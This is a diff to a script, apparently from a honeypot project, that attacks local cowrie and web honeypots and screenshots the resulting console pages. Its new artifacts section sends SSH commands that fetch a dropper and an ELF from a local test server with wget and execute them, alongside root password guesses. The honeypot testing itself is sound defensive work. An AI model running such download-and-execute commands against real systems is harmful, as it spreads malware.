@@ -1,14 +1,17 @@
 /**
  * Renders a screenshot of each console page into docs/images/ (the README shows them):
  * a real Core and node, both built-in honeypots installed and attacked by OpenSSH and curl.
- * Run: bun scripts/console-screenshots.ts
+ * Run: bun scripts/console-screenshots.ts [name ...] (names like `overview`, `kind`: only those images).
  */
 import { mkdirSync } from "node:fs";
 import { join } from "node:path";
-import { getJson, until } from "../tests/helpers";
+import { freePort, getJson, until } from "../tests/helpers";
+import { DROPPER, ELF, malwareServer, sha, sshFrom } from "../tests/helpers/artifact-attack";
 import { httpAttack, launchBrowser, potsRunning, sshAttack, sshShell, startSystem } from "../tests/helpers/console";
 
 const OUT = join(import.meta.dir, "..", "docs", "images");
+const only = process.argv.slice(2);
+const wanted = (name: string) => only.length === 0 || only.includes(name);
 mkdirSync(OUT, { recursive: true });
 
 await using sys = await startSystem();
@@ -33,6 +36,7 @@ await until(async () => (await getJson(`${core.api}/api/v1/events?limit=1&event_
 
 await using browser = await launchBrowser();
 const shoot = async (path: string, name: string, opts: { width?: number; height?: number; scheme?: "dark" | "light"; full?: boolean } = {}) => {
+  if (!wanted(name)) return;
   const page = await browser.newPage({ viewport: { width: opts.width ?? 1366, height: opts.height ?? 768 }, colorScheme: opts.scheme ?? "dark" });
   await page.goto(core.api + path);
   await page.waitForSelector("main h1");
@@ -44,15 +48,17 @@ const shoot = async (path: string, name: string, opts: { width?: number; height?
 };
 
 // The live page, with an attack happening while it is open.
-const live = await browser.newPage({ viewport: { width: 1366, height: 768 }, colorScheme: "dark" });
-await live.goto(core.api + "/live");
-await live.waitForSelector(".dot.open");
-await sshAttack(ports.ssh, "root", "123456", "ls -la; ps aux");
-await httpAttack(ports.http, "administrator", "Summer2026!");
-await live.waitForSelector("text=Summer2026!");
-await live.screenshot({ path: join(OUT, "console-live.png") });
-console.log("docs/images/console-live.png");
-await live.close();
+if (wanted("live")) {
+  const live = await browser.newPage({ viewport: { width: 1366, height: 768 }, colorScheme: "dark" });
+  await live.goto(core.api + "/live");
+  await live.waitForSelector(".dot.open");
+  await sshAttack(ports.ssh, "root", "123456", "ls -la; ps aux");
+  await httpAttack(ports.http, "administrator", "Summer2026!");
+  await live.waitForSelector("text=Summer2026!");
+  await live.screenshot({ path: join(OUT, "console-live.png") });
+  console.log("docs/images/console-live.png");
+  await live.close();
+}
 
 await shoot("/", "overview", { full: true });
 await shoot("/events", "events");
@@ -63,8 +69,11 @@ await shoot("/settings", "settings", { scheme: "light" });
 await shoot("/", "overview-light", { scheme: "light" });
 await shoot("/", "overview-phone", { width: 390, height: 844, full: false });
 await shoot("/sessions", "sessions");
+// Dashboards: a kind's (every cowrie pot) over the last 24 hours, a honeypot's over 7 days.
+await shoot("/kinds/cowrie", "kind", { full: true });
+await shoot("/pots/web-01?range=7d", "pot", { full: true });
 // A session's page, its recording played to the end.
-{
+if (wanted("session")) {
   const page = await browser.newPage({ viewport: { width: 1366, height: 1700 }, colorScheme: "dark" });
   await page.goto(`${core.api}/sessions/${shell.id}`);
   await page.locator(".ap-player").click();
@@ -73,4 +82,23 @@ await shoot("/sessions", "sessions");
   await page.screenshot({ path: join(OUT, "console-session.png") });
   console.log("docs/images/console-session.png");
   await page.close();
+}
+// Malware: a second cowrie that may fetch from this machine, where a web server holds an ELF and
+// a dropper; two attackers' wget bring them in. Installed last, so the pages above are as before.
+if (wanted("artifacts") || wanted("artifact")) {
+  using web = malwareServer();
+  const url = `http://127.0.0.1:${web.port}`;
+  const ssh02 = freePort();
+  await command({ InstallPot: { pot_id: "ssh-02", honeypot_type: "cowrie", config: { ssh_port: String(ssh02), telnet_port: String(freePort()), hostname: "web-prod-1", download_private: "true" }, auto_start: true } });
+  await potsRunning(core, ["ssh-02"]);
+  await sshFrom(ssh02, "127.0.0.1", `cd /tmp; wget ${url}/x.sh; sh x.sh`);
+  await sshFrom(ssh02, "127.0.0.2", `cd /tmp; wget ${url}/bins/x86; chmod +x x86; ./x86`);
+  await sshFrom(ssh02, "127.0.0.3", `wget -O /tmp/.k ${url}/mirror/x86`);
+  const elf = await until(async () => {
+    const a = (await getJson(`${core.api}/api/v1/artifacts/${sha(ELF)}`)).body;
+    return a.stored && a.sightings?.length === 2 && a.sightings.every((s: { session_id: number | null }) => s.session_id !== null) && a;
+  }, "the artifacts", 3000);
+  await until(async () => (await getJson(`${core.api}/api/v1/artifacts/${sha(DROPPER)}`)).body.sightings?.[0]?.session_id, "the dropper", 3000);
+  await shoot("/artifacts", "artifacts");
+  await shoot(`/artifacts/${elf.sha256}`, "artifact", { height: 900 });
 }
